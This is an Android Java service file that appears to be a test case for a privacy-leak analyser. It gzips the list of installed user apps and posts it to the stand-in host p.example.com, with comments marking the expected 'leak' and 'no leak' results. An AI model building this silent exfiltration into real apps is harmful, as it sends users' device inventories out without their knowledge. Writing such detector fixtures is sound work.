package olden;

import android.app.*;
import android.content.*;
import android.content.pm.*;
import android.os.*;

import java.io.*;
import java.net.*;
import java.util.*;
import java.util.zip.*;

/** Installed apps, compressed. */
public class Packages extends Service {
    public IBinder onBind(Intent i) {
        return null;
    }

    static byte[] gz(String s) throws IOException {
        ByteArrayOutputStream b = new ByteArrayOutputStream();
        GZIPOutputStream g = new GZIPOutputStream(b);
        g.write(s.getBytes("utf-8"));
        g.finish();
        g.close();
        return b.toByteArray();
    }

    public void onStart(Intent i, int n) {
        List<PackageInfo> l = getPackageManager().getInstalledPackages(0);
        StringBuilder u = new StringBuilder(), s = new StringBuilder();
        int sys = 0;
        for (Iterator<PackageInfo> it = l.iterator(); it.hasNext(); ) {
            PackageInfo p = it.next();
            if ((p.applicationInfo.flags & 1) != 0) {
                sys++;
                continue;
            }
            u.append(p.packageName).append('=').append(p.versionCode).append('&');
        }
        s.append("sys=").append(sys);
        try {
            up(gz(u.toString()));
            up2(gz(s.toString()));
        } catch (IOException e) {
        }
    }

    static void up(byte[] b) throws IOException {
        HttpURLConnection c =
                (HttpURLConnection) new URL("https://p.example.com/l").openConnection();
        c.setRequestProperty("Content-Encoding", "gzip");
        c.setDoOutput(true);
        OutputStream o = new BufferedOutputStream(c.getOutputStream());
        o.write(b); // leak
        o.close();
    }

    static void up2(byte[] b) throws IOException {
        HttpURLConnection c =
                (HttpURLConnection) new URL("https://p.example.com/l").openConnection();
        OutputStream o = new BufferedOutputStream(c.getOutputStream());
        o.write(b); // no leak
        o.close();
    }
}
